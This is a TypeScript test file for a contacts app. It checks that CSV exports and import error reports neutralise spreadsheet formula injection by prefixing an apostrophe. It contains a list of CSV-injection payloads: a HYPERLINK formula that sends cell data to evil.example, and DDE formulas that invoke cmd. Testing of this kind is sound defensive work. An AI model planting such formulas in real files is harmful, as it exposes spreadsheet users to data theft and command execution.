import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { parse as parseCsv } from 'csv-parse/sync';
import { spreadsheetSafe } from '../../src/http/csv-export.js';
import { ImportWorker } from '../../src/services/imports/import-worker.js';
import { multipart } from '../helpers/multipart.js';
import { as, seedCenter, startTestApp, type SeededCenter, type TestApp } from '../helpers/harness.js';

// OWASP's CSV-injection payloads: each starts with a character a spreadsheet evaluates.
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+2',
  '\r=1+2',
];

describe('CSV exports are safe to open in a spreadsheet', () => {
  let t: TestApp;
  let acme: SeededCenter;
  let listId: string;
  before(async () => {
    t = await startTestApp();
    acme = await seedCenter(t, 'acme');
    listId = (
      await as(t, acme.tokens.admin)({ method: 'POST', url: '/v1/lead-lists', payload: { name: 'Formulas' } })
    ).json().id;
  });
  after(() => t.close());

  test('the rule: formulas get an apostrophe; plain numbers and ordinary text stay as they are', () => {
    for (const formula of FORMULAS) assert.equal(spreadsheetSafe(formula), `'${formula}`);
    for (const plain of ['+919876543210', '-42', '-0.5', 'Priya', '', 'a=b', "'quoted"])
      assert.equal(spreadsheetSafe(plain), plain);
  });

  test('the contacts export neutralises names and variables, keeps E.164 numbers readable', async () => {
    for (const [i, formula] of FORMULAS.entries()) {
      const res = await as(
        t,
        acme.tokens.admin,
      )({
        method: 'POST',
        url: '/v1/contacts',
        payload: {
          list_id: listId,
          phone_number: `+91 98765 4321${i}`,
          first_name: formula,
          last_name: 'Rao',
          variables: { note: formula },
        },
      });
      assert.equal(res.statusCode, 201, res.body);
    }
    const res = await as(
      t,
      acme.tokens.admin,
    )({ method: 'GET', url: `/v1/contacts/export.csv?list_id=${listId}` });
    assert.equal(res.statusCode, 200, res.body);
    const rows = parseCsv(res.body, { columns: true }) as Record<string, string>[];
    assert.equal(rows.length, FORMULAS.length);
    for (const row of rows) {
      assert.match(row.phone_number!, /^\+91987654321\d$/);
      assert.equal(row.last_name, 'Rao');
      // (Names are stored trimmed: the tab and CR cases arrive as their formula.)
      assert.ok(
        FORMULAS.some((f) => f.trim() === row.first_name!.slice(1)),
        row.first_name,
      );
      assert.equal(row.first_name![0], "'");
      // The variables column is JSON ({"note":…}): it starts with a brace, not a formula.
      assert.equal(row.variables![0], '{');
    }
  });

  test('an import’s error report neutralises the refused values', async () => {
    const file = 'phone,name\n' + FORMULAS.map((f) => `"${f.replaceAll('"', '""')}",x`).join('\n') + '\n';
    const res = await as(
      t,
      acme.tokens.admin,
    )({
      method: 'POST',
      url: '/v1/imports',
      ...multipart({ list_id: listId }, { name: 'formulas.csv', content: file }),
    });
    assert.equal(res.statusCode, 202, res.body);
    await new ImportWorker(t.deps, { owner: 'test', batchSize: 100 }).drain();
    const job = (
      await as(t, acme.tokens.admin)({ method: 'GET', url: `/v1/imports/${res.json().id}` })
    ).json();
    assert.equal(job.progress.rejected, FORMULAS.length, JSON.stringify(job));
    const report = (await as(t, acme.tokens.admin)({ method: 'GET', url: job.errors_url })).body;
    const rows = parseCsv(report, { columns: true }) as Record<string, string>[];
    assert.equal(rows.length, FORMULAS.length);
    for (const row of rows) {
      assert.equal(row.raw_value![0], "'", row.raw_value);
      assert.ok(
        FORMULAS.some((f) => f.trim() === row.raw_value!.slice(1).trim()),
        row.raw_value,
      );
    }
  });
});
